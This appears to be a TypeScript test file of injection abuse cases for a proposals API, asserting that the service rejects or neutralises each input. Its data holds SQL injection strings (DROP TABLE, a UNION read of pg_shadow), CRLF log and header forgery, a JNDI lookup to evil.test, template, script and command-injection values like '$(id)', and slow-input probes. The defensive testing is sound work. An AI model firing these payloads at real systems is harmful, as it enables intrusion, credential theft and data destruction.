import { newAddress, request, rows } from './abuse-case.js';
import { as, type Headers, PROPOSALS, RUNS } from './stage.js';

const get =
  (target: string, headers: Headers = {}) =>
  async () =>
    request('GET', target, { ...(await as('me')), ...headers });

const query = (name: string, value: string) =>
  get(`${PROPOSALS}?${name}=${encodeURIComponent(value)}`);
const id = (value: string) => get(`${PROPOSALS}/${encodeURIComponent(value)}`);

const post = (changed: object) => async () => {
  const body = { portfolio_id: 'pf-1', document: {}, ...changed };
  return request(
    'POST',
    PROPOSALS,
    { ...(await as('me')), 'Idempotency-Key': 'abuse' },
    JSON.stringify(body),
  );
};

const NONE = [404, 'PROPOSAL_NOT_FOUND'] as const;

/** A line of a log, as somebody would forge it. */
export const FORGED = '{"level":"fatal","event":"forged"}';

export const injectionCases = [
  ...rows('SQL', [
    ['in a filter', query('portfolio_id', "' OR '1'='1"), 200, null],
    ['in a filter, with another statement', query('portfolio_id', "'; DROP TABLE proposals; --"), 200, null],
    ['in a filter, with a function that sleeps', query('created_by', "'||pg_sleep(10)||'"), 200, null],
    ['in a filter that knows its words', query('state', "DRAFT' OR 1=1--"), 422, 'VALIDATION_FAILED'],
    ['in a time', query('created_from', "2026-01-01' OR 1=1--"), 422, 'VALIDATION_FAILED'],
    ['in a number', query('limit', '1; SELECT 1'), 422, 'VALIDATION_FAILED'],
    ['in an identifier', id("' OR 1=1--"), ...NONE],
    ['in an identifier, with UNION', id("x' UNION SELECT usename, passwd FROM pg_shadow--"), ...NONE],
    ['in a placeholder', id('$1'), ...NONE],
    ['in an identifier of a run', get(`${RUNS}/${encodeURIComponent("'; TRUNCATE runs; --")}`), 404, 'RUN_NOT_FOUND'],
    ['in a key', get(`${RUNS}/by/idempotency-key/${encodeURIComponent("' OR 1=1--")}`), 404, 'IDEMPOTENCY_KEY_NOT_FOUND'],
    ['in a name of a member', post({ "a'; DROP TABLE x; --": 1 }), 422, 'VALIDATION_FAILED'],
    ['as an order that nobody takes', query('order', 'id; DROP TABLE x'), 422, 'VALIDATION_FAILED'],
    ['as a backslash and a quote', id("\\'"), ...NONE],
    ['as a percent sign of LIKE', query('portfolio_id', '%'), 200, null],
  ]),
  ...rows('a line of the log', [
    ['in the path', get(`/${encodeURIComponent(`\n${FORGED}\n`)}`), 404, 'ROUTE_NOT_FOUND'],
    ['in an identifier', id(`\r\n${FORGED}\r\n`), ...NONE],
    ['in the correlation id', get(`${PROPOSALS}/none`, { 'X-Correlation-Id': `a%0a${FORGED}` }), ...NONE],
    ['in the name of who asks', async () => request('GET', `${PROPOSALS}/none`, await as(`me${FORGED}`)), ...NONE],
    ['as colours of a terminal', get(`${PROPOSALS}/none`, { 'X-Correlation-Id': '\x1b[31mred' }), 400, 'REQUEST_MALFORMED'],
    ['in the user agent', get(`${PROPOSALS}/none`, { 'User-Agent': '${jndi:ldap://evil.test/a}' }), ...NONE],
  ]),
  ...rows('a header of the answer', [
    ['by the correlation id', async () => ({ bytes: `GET ${PROPOSALS}/none HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: ${newAddress()}\r\nConnection: close\r\nauthorization: ${(await as('me')).authorization}\r\nX-Correlation-Id: a%0d%0aSet-Cookie:%20a=b\r\n\r\n` }), ...NONE],
    ['by the path', get(`${PROPOSALS}/none%0d%0aSet-Cookie:%20a=b`), ...NONE],
    ['by Origin', get(`${PROPOSALS}/none`, { Origin: 'https://evil.test' }), ...NONE],
    ['by Host', get(`${PROPOSALS}/none`, { Host: 'evil.test' }), ...NONE],
    ['by X-Forwarded-Proto', get(`${PROPOSALS}/none`, { 'X-Forwarded-Proto': 'javascript' }), ...NONE],
  ]),
  ...rows('a template, a script, a command', [
    ['{{7*7}}', id('{{7*7}}'), ...NONE],
    ['${7*7}', id('${7*7}'), ...NONE],
    ['<%= 7*7 %>', id('<%= 7*7 %>'), ...NONE],
    ['<script>', id('<script>alert(1)</script>'), ...NONE],
    ['a script in a path that is none', get('/%3Cscript%3Ealert(1)%3C/script%3E'), 404, 'ROUTE_NOT_FOUND'],
    ['%s%n', id('%s%s%n'), ...NONE],
    ['; cat /etc/passwd', id('; cat x | sh'), ...NONE],
    ['$(id)', id('$(id)'), ...NONE],
    ['a regular expression that takes long', get(`${PROPOSALS}/none`, { 'If-None-Match': `"${'a'.repeat(5000)}!` }), ...NONE],
    ['a type that takes long', async () => request('POST', PROPOSALS, { ...(await as('me')), 'Content-Type': `application/${'a.'.repeat(3000)}` }, '{}'), 415, 'MEDIA_TYPE_UNSUPPORTED'],
    ['addresses that take long', get(`${PROPOSALS}/none`, { 'X-Forwarded-For': '1,'.repeat(4000) }), ...NONE],
  ]),
]; // prettier-ignore
